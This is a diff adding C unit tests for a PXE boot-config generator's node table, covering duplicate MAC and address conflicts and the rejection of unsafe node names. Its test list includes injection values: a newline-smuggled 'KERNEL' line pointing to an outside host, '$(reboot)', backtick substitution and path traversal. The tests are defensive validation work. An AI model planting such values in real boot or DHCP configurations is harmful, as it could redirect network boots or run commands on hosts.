@@ -3,7 +3,8 @@
  * Unit tests for pxecfg-gen's node table: ethers resolved through hosts,
  * the same node from two sources, and the conflicts that must be errors
  * with both places named (MAC twice, address twice, unknown host, node in
- * no subnet, subnet without a server).
+ * no subnet, subnet without a server), and node names that may not be
+ * written into a boot file, whatever their source.
  */
 #include <string.h>
 
@@ -120,6 +121,15 @@ static const struct {
 	  "(ethers:1)" },
 	{ "fe:ed:fa:ce:de:ad nodeX\n",
 	  "ethers:1: unknown host nodeX (not in the hosts file)" },
+	/* MAC of one node, address of another: the earlier one is named */
+	{ "fe:ed:fa:ce:de:ad node1\nbe:ef:fe:ed:fa:ce node2\n"
+	  "BE:EF:FE:ED:FA:CE node1\n",
+	  "ethers:3: node1: address 192.0.2.2 already used by node1 "
+	  "(ethers:1)" },
+	{ "be:ef:fe:ed:fa:ce node2\nfe:ed:fa:ce:de:ad node1\n"
+	  "BE:EF:FE:ED:FA:CE node1\n",
+	  "ethers:3: node1: MAC be:ef:fe:ed:fa:ce already used by node2 "
+	  "(ethers:1)" },
 };
 
 START_TEST(test_conflicts)
@@ -183,6 +193,45 @@ START_TEST(test_no_subnet)
 }
 END_TEST
 
+/* What dhcpd.conf can quote as a host name, and ISC accepts. */
+static const char *const bad_names[] = {
+	"evil\nKERNEL http://198.51.100.66/x", "a b", "a\tb", "a\"b",
+	"a'b", "$(reboot)", "a;b", "a/b", "../x", "-a", "", "\033[2J",
+	"n\303\251", "a\\b", "a`b`", "a\rb",
+};
+
+START_TEST(test_bad_name)
+{
+	struct pxecfg_node nd = { .ip = 0xc0000202, .mac = { 2, 0, 0, 0, 0,
+	    1 }, .src = PXECFG_SRC_DHCPD, .file = "dhcpd.conf", .line = 5 };
+	struct perr err;
+	const char *want = "dhcpd.conf:5: bad node name '";
+
+	strlcpy(nd.name, bad_names[_i], sizeof(nd.name));
+	ck_assert_int_eq(pxecfg_nodes_add(&t, &nd, &err), -1);
+	ck_assert_uint_eq(t.n, 0);
+	ck_assert_int_eq(strncmp(err.msg, want, strlen(want)), 0);
+	ck_assert_ptr_null(strpbrk(err.msg, "\n\r\t\033"));
+	strlcpy(nd.name, "node-1.example_x", sizeof(nd.name));
+	ck_assert_int_eq(pxecfg_nodes_add(&t, &nd, &err), 0);
+	ck_assert_uint_eq(t.n, 1);
+}
+END_TEST
+
+START_TEST(test_bad_name_msg)
+{
+	struct pxecfg_node nd = { .ip = 0xc0000202, .src = PXECFG_SRC_DHCPD,
+	    .file = "dhcpd.conf", .line = 2 };
+	struct perr err;
+
+	strlcpy(nd.name, bad_names[0], sizeof(nd.name));
+	ck_assert_int_eq(pxecfg_nodes_add(&t, &nd, &err), -1);
+	ck_assert_str_eq(err.msg, "dhcpd.conf:2: bad node name 'evil\\nKERNEL "
+	    "http://198.51.100.66/x' (a node name is letters, digits, '-', "
+	    "'.' and '_')");
+}
+END_TEST
+
 Suite *
 pxecfg_nodes_suite(void)
 {
@@ -197,6 +246,9 @@ pxecfg_nodes_suite(void)
 	    sizeof(conflicts) / sizeof(conflicts[0]));
 	tcase_add_test(tc, test_two_sources);
 	tcase_add_test(tc, test_no_subnet);
+	tcase_add_loop_test(tc, test_bad_name, 0,
+	    sizeof(bad_names) / sizeof(bad_names[0]));
+	tcase_add_test(tc, test_bad_name_msg);
 	suite_add_tcase(s, tc);
 	return s;
 }
